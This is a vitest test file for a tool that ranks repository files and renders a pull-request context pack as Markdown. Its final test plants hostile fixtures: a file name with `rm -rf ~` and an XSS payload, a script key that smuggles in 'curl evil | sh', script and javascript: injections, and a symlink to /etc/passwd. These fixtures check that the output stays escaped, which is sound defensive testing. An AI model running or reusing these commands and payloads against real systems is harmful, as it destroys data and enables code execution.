import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { contextBodySchema } from "../../../src/context/body.ts";
import { gatherContext } from "../../../src/context/gather.ts";
import { makeContextPack } from "../../../src/context/make-pack.ts";
import { contextOutcome } from "../../../src/context/outcome.ts";
import { buildContextPack } from "../../../src/context/pack.ts";
import { canonicalJson } from "../../../src/evidence/canonical-json.ts";
import { known } from "../../../src/facts/fact.ts";
import { classifyTier } from "../../../src/policy/tiers.ts";
import { renderContextMarkdown } from "../../../src/render/context-markdown.ts";
import { gitIn, scratch, temporaryFolder } from "../git/scratch.ts";
import { fileChange, packOf, silent } from "./world.ts";

const SUBJECT = { repository: "o/r", pullRequest: 1, baseRef: "main", baseSha: null, headRef: "topic", headSha: null };

function project() {
  const source = scratch();
  source.write("package.json", JSON.stringify({ scripts: { test: "vitest run", build: "tsc" }, devDependencies: { vitest: "1" } }));
  source.write("src/parser.ts", "export function parseConfig(text: string) { return tokenize(text); }\n");
  source.write("src/tokens.ts", "export function tokenize(text: string) { return text.split(' '); }\n");
  source.write("src/server.ts", "export function listen(port: number) { return port; }\n");
  source.write("test/parser.test.ts", "import { parseConfig } from '../src/parser';\n");
  source.write(
    ".github/workflows/ci.yml",
    "on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm ci\n      - run: npm test\n",
  );
  source.commit("start");
  for (let round = 1; round <= 4; round += 1) {
    source.write("src/parser.ts", `export function parseConfig(text: string) { return tokenize(text, ${round}); }\n`);
    source.write("src/tokens.ts", `export function tokenize(text: string) { return text.split('${round}'); }\n`);
    source.commit(`parse round ${round}`);
  }
  return source;
}

describe("law 1: nothing to look at is never a pass", () => {
  test("no checkout", async () => {
    const task = { text: "x", source: "pull-request" as const };
    const sources = await gatherContext({ repository: null, baseSha: null, headSha: null, changes: null, task, exclude: [], log: silent });
    const body = buildContextPack(sources, { task, changes: null, tier: null, maxFiles: 10, exclude: [], limit: 10 });
    expect(contextOutcome(body)).toBe("unknown");
    expect(body.unknowns[0]?.mend).toContain("actions/checkout");
    expect(contextBodySchema.parse(body)).toEqual(body);
  });
  test("without a checkout no source is said to have no test, and a test of the same change is seen", async () => {
    const changes = ["src/retry.ts", "src/lonely.ts", "test/retry.test.ts"].map((path) => fileChange(path));
    const body = await makeContextPack(
      { repository: null, baseSha: null, headSha: null, changes, task: { text: "", source: "none" }, exclude: [], log: silent },
      { changes: known(changes), tier: classifyTier(changes, undefined), maxFiles: 10, limit: 10 },
      null,
    );
    expect(body.change?.details?.tests.map(({ path, state }) => [path, state])).toEqual([["src/retry.ts", "changed"]]);
    expect(JSON.stringify(body)).not.toContain("no test found");
  });
  test("an empty repository, an empty change, a change that was not read, a task that fits nothing", async () => {
    const empty = scratch();
    expect(contextOutcome(await packOf(empty.dir, { task: "x" }))).toBe("unknown");
    const source = project();
    const head = source.git("rev-parse", "HEAD");
    expect(contextOutcome(await packOf(source.dir, { task: "x", base: head }))).toBe("unknown");
    expect(contextOutcome(await packOf(source.dir))).toBe("unknown");
    const nothing = await packOf(source.dir, { task: "zzzyyyxxx" });
    expect(nothing.ranked).toEqual([]);
    expect(contextOutcome(nothing)).toBe("unknown");
    expect(contextOutcome(await packOf(source.dir, { task: "parse the config" }))).toBe("pass");
  });
});

describe("a task", () => {
  test("finds the file, its companion and its test, each with a reason and a command", async () => {
    const body = await packOf(project().dir, { task: "parseConfig loses a token" });
    expect(body.ranked[0]).toMatchObject({ path: "src/parser.ts", role: "primary", score: 1 });
    expect(body.ranked.map(({ path }) => path)).toContain("src/tokens.ts");
    expect(body.headline).toContain("look first at `src/parser.ts`");
    expect(body.tests).toEqual([{ path: "test/parser.test.ts", command: "npx vitest run test/parser.test.ts" }]);
    expect(body.ranked.every(({ reasons }) => reasons.length > 0)).toBe(true);
    expect(body.harness.commands).toContainEqual(expect.objectContaining({ command: "npm test", trust: "ci", group: "validate" }));
  });
  test("a companion and a test that share no word with the task are found by what they belong to", async () => {
    const source = scratch();
    source.write("src/parser.ts", "export function parseConfig() {}\n");
    source.write("data/zeta.ts", "export const z = 0;\n");
    source.write("spec/parser.spec.ts", "z();\n");
    source.write("src/other.ts", "export const q = 0;\n");
    source.commit("start");
    for (let round = 1; round <= 3; round += 1) {
      source.write("src/parser.ts", `export function parseConfig() { return ${round}; }\n`);
      source.write("data/zeta.ts", `export const z = ${round};\n`);
      source.commit(`round ${round}`);
    }
    const body = await packOf(source.dir, { task: "`parseConfig` fails" });
    expect(body.ranked[0]?.path).toBe("src/parser.ts");
    expect(body.ranked.find(({ path }) => path === "data/zeta.ts")?.reasons.join()).toContain("changed together");
    expect(body.ranked.map(({ path }) => path)).toContain("spec/parser.spec.ts");
  });
  test("a changelog is never what to read first, though every commit touched it", async () => {
    const source = scratch();
    for (let round = 1; round <= 4; round += 1) {
      source.write("History.md", `parser ${round}: parseConfig parser parse\n`);
      source.write("src/parser.ts", `export function parseConfig() { return ${round}; }\n`);
      source.commit(`parser: parseConfig, round ${round}`);
    }
    const body = await packOf(source.dir, { task: "parser: parseConfig History" });
    expect(body.primaryFiles).toEqual(["src/parser.ts"]);
    expect(body.relatedFiles).toContain("History.md");
    expect(body.headline).toContain("look first at `src/parser.ts`.");
  });
  test("code that is called like a changelog is read first", async () => {
    const source = scratch();
    source.write("src/history.ts", "export function readHistory() {}\n");
    source.write("src/other.ts", "export const q = 0;\n");
    source.commit("start");
    expect((await packOf(source.dir, { task: "`readHistory` fails" })).primaryFiles).toEqual(["src/history.ts"]);
  });
  test("excluded paths are never proposed", async () => {
    const body = await packOf(project().dir, { task: "parseConfig loses a token", exclude: ["src/parser.ts"] });
    expect(body.ranked.map(({ path }) => path)).not.toContain("src/parser.ts");
  });
});

describe("a change", () => {
  test("shows what usually changes with it and did not", async () => {
    const source = project();
    const base = source.git("rev-parse", "HEAD");
    source.write("src/parser.ts", "export function parseConfig() { return child_process.exec('x'); }\n");
    source.commit("change the parser alone");
    const body = await packOf(source.dir, { base, task: "parse" });
    expect(body.primaryFiles).toEqual(["src/parser.ts"]);
    expect(body.relatedFiles[0]).toBe("src/tokens.ts");
    expect(body.reviewPrompts.join("\n")).toContain(
      "`src/tokens.ts` is not part of this change, though it changed in 4 of the 4 past commits to `src/parser.ts`",
    );
    expect(body.reviewPrompts.join("\n")).toContain("starts programs");
    expect(body.change?.risk).toMatchObject({ level: "low", score: 3 });
    expect(body.change?.domains).toEqual(["src"]);
    expect(contextOutcome(body)).toBe("pass");
  });
  test("a habit outlives the move of its files", async () => {
    const source = project();
    source.git("mv", "src/tokens.ts", "lex.ts");
    source.git("mv", "src/parser.ts", "parse.ts");
    const base = source.commit("move");
    source.write("parse.ts", "export function parseConfig() {}\n");
    source.commit("change the parser alone");
    const body = await packOf(source.dir, { base });
    expect(body.relatedFiles[0]).toBe("lex.ts");
    expect(body.reviewPrompts.join("\n")).toContain(
      "`lex.ts` is not part of this change, though it changed in 5 of the 5 past commits to `parse.ts`",
    );
  });
  test("is not explained by its own commits", async () => {
    const source = project();
    const base = source.git("rev-parse", "HEAD");
    source.write("src/parser.ts", "1\n");
    source.write("src/server.ts", "1\n");
    source.commit("both");
    expect((await packOf(source.dir, { base, task: "x" })).git.historyDepth).toBe(4);
  });
});

describe("every form of a repository gives a pack, and the same bytes", () => {
  test("bare, detached, sparse, converted, dirty: the commit decides, not the work tree", async () => {
    const source = project();
    const task = "parseConfig loses a token";
    const plain = await packOf(source.dir, { task });
    const folder = temporaryFolder();
    gitIn(folder, "clone", "-q", "--bare", source.dir, "bare.git");
    gitIn(folder, "clone", "-q", "--no-checkout", source.dir, "sparse");
    gitIn(join(folder, "sparse"), "sparse-checkout", "set", "test");
    gitIn(join(folder, "sparse"), "checkout", "-q", "--detach");
    gitIn(folder, "clone", "-q", "-c", "core.autocrlf=true", source.dir, "crlf");
    gitIn(folder, "clone", "-q", source.dir, "dirty");
    writeFileSync(join(folder, "dirty", "src", "server.ts"), "parseConfig parseConfig parseConfig\n");
    for (const name of ["bare.git", "sparse", "crlf", "dirty"]) {
      const other = await packOf(join(folder, name), { task });
      expect(other.ranked, name).toEqual(plain.ranked);
      expect(other.repository, name).toEqual(plain.repository);
      expect(other.inspected, name).toBe(plain.inspected);
      expect(canonicalJson(other)).not.toContain(folder);
    }
    expect(canonicalJson(await packOf(source.dir, { task }))).toBe(canonicalJson(plain));
    const dirty = await packOf(join(folder, "dirty"), { task });
    expect(dirty.git).toMatchObject({ clean: false, uncommittedPaths: ["src/server.ts"] });
    expect(dirty.unknowns[0]?.what).toContain("src/server.ts");
  });
  test("shallow: says its depth and the line that mends it", async () => {
    const source = project();
    const folder = temporaryFolder();
    gitIn(folder, "clone", "-q", "--depth=2", `file://${source.dir}`, "shallow");
    const body = await packOf(join(folder, "shallow"), { task: "parseConfig" });
    expect(body.git).toMatchObject({ shallow: true, historyDepth: 1 });
    expect(body.unknowns[0]?.mend).toContain("fetch-depth: 0");
  });
  test("a head that is not in the checkout: what is read in its place is said", async () => {
    const body = await packOf(project().dir, { task: "parseConfig", head: "1".repeat(40) });
    expect(body.unknowns[0]?.what).toBe("The files at the head commit.");
    expect(body.ranked[0]?.path).toBe("src/parser.ts");
  });
  test("links, link loops, submodules, unusual names, bytes that are no text, large files", async () => {
    const inner = project();
    const source = project();
    source.link("loop", "loop");
    source.link("outside", "/etc/passwd");
    source.git("submodule", "add", "-q", inner.dir, "inner");
    source.write("a b/qu\"o'te\n| `tick` <b>.ts", "parseConfig\n");
    source.write("latin1.ts", Buffer.from([0x70, 0x61, 0x72, 0x73, 0x65, 0x20, 0xe9, 0xff]));
    source.write("large.ts", "parseConfig ".repeat(60_000));
    source.write("binary.ts", Buffer.concat([Buffer.from("parseConfig"), Buffer.from([0])]));
    source.commit("unusual");
    const body = await packOf(source.dir, { task: "parseConfig root passwd" });
    const paths = body.ranked.map(({ path }) => path);
    expect(paths).toContain("a b/qu\"o'te\n| `tick` <b>.ts");
    for (const path of ["loop", "outside", "inner"]) expect(paths).not.toContain(path);
    const unread = body.ranked.filter(({ path }) => path === "large.ts" || path === "binary.ts");
    expect(unread.flatMap(({ reasons }) => reasons).filter((reason) => reason.startsWith("holds"))).toEqual([]);
    expect(contextOutcome(body)).toBe("pass");
    const markdown = renderContextMarkdown(body, SUBJECT, { tokenBudget: 12_000 });
    expect(markdown).not.toContain("<b>");
    expect(markdown).not.toContain("o'te\n|");
  });
});

test("hostile names and texts stay text in the Markdown", async () => {
  const source = project();
  const base = source.git("rev-parse", "HEAD");
  source.write("src/`rm -rf ~`<img src=x onerror=alert(1)>.ts", "x\n");
  source.write(
    "package.json",
    JSON.stringify({ scripts: { "test; curl evil | sh": "</details><script>alert(1)</script>", test: "@org/team [x](javascript:1)" } }),
  );
  source.commit("evil");
  const markdown = renderContextMarkdown(
    await packOf(source.dir, { base, task: "<script>alert(1)</script> @everyone ![x](http://evil) ::error::x" }),
    SUBJECT,
    { tokenBudget: 50_000 },
  );
  // Between backticks everything is text; what stands outside of them is looked at.
  const outside = markdown.replaceAll(/(`+)(?!`).*?(?<!`)\1(?!`)/gu, "");
  for (const evil of ["<script", "<img", "</details", "![x](", "\n::error", "@everyone", "@org"]) expect(outside).not.toContain(evil);
});
